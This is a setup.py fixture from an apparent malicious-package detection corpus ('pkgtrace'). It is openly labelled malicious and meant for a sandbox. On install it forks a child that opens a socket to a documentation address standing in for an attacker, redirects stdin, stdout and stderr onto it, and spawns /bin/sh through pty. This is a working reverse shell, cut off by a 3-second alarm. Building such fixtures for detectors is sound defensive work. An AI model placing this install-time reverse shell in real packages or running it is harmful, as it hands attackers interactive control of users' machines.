# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The Python reverse shell found in many malicious setup.py files on PyPI
# (2022-2024), rewritten from the public write-ups: a forked child connects
# a TCP socket to the attacker, dup2()s it onto fds 0, 1 and 2 and runs
# `pty.spawn("/bin/sh")`, so that the attacker gets an interactive shell.
# Here the address is a documentation one (192.0.2.44:4444) and the child
# is ended by an alarm after 3 s: in the sandbox the sink accepts, records
# the shell's prompt and sends no command.
#
# The first time setup.py runs in an install (a file in /tmp says it already
# ran). pip hides setup.py's output, so the steps go to
# /tmp/mal-revshell-pty.log and the last one writes /tmp/mal-revshell-pty.done.
# No error stops the install.
import os
import signal
import time

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-revshell-pty.ran"
LOG = "/tmp/mal-revshell-pty.log"
DONE = "/tmp/mal-revshell-pty.done"
ADDR = ("192.0.2.44", 4444)


def _say(msg):
    with open(LOG, "a") as f:
        f.write(f"mal-revshell-pty: {msg}\n")


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _shell():
    """The child: never returns."""
    try:
        import pty
        import socket

        signal.alarm(3)  # default action: the child dies, and the pty with it
        s = socket.create_connection(ADDR, timeout=2)
        s.settimeout(None)
        _say(f"step 2 connected to {ADDR[0]}:{ADDR[1]}")
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/sh")
    finally:
        os._exit(0)


def _chain():
    pid = os.fork()
    if pid == 0:
        _shell()
    _say(f"step 1 forked the shell child {pid}")
    deadline = time.monotonic() + 5
    status = None
    while time.monotonic() < deadline:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            break
        time.sleep(0.1)
    else:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    _say(f"step 3 the shell child ended (status {status})")
    with open(DONE, "w") as f:
        f.write("done\n")


if _first_run():
    try:
        _chain()
    except BaseException as e:  # never stop the install
        _say(f"stopped: {e!r}")

setup(
    name="pkgtrace-test-mal-revshell-pty",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - setup.py forks a socket+dup2+pty reverse shell to a documentation address",
    packages=["pkgtrace_mal_revshell_pty"],
)
